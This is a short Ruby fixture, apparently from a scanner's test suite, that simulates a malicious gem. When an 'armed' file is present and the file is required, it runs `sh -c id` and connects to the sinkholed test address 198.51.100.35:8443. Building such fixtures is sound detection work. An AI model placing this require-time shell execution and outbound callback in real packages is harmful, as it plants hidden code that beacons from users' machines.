# Simulates a gem whose payload hides in a second require path (loaded by
# `require "sf_gem_twopaths_plugin"` once the gem is activated): when
# required it spawns `sh -c id` and connects to 198.51.100.35:8443
# (TEST-NET-2: only the sandbox's own sinkhole answers it; offline, no
# route). Nothing is sent. Acts only when armed (scanfarm's tests put an
# "armed" file at the gem's top).
require "socket"

if File.exist?(File.join(__dir__, "..", "armed"))
  system("sh", "-c", "id", out: File::NULL)
  begin
    Socket.tcp("198.51.100.35", 8443, connect_timeout: 2).close
  rescue StandardError
    nil
  end
end
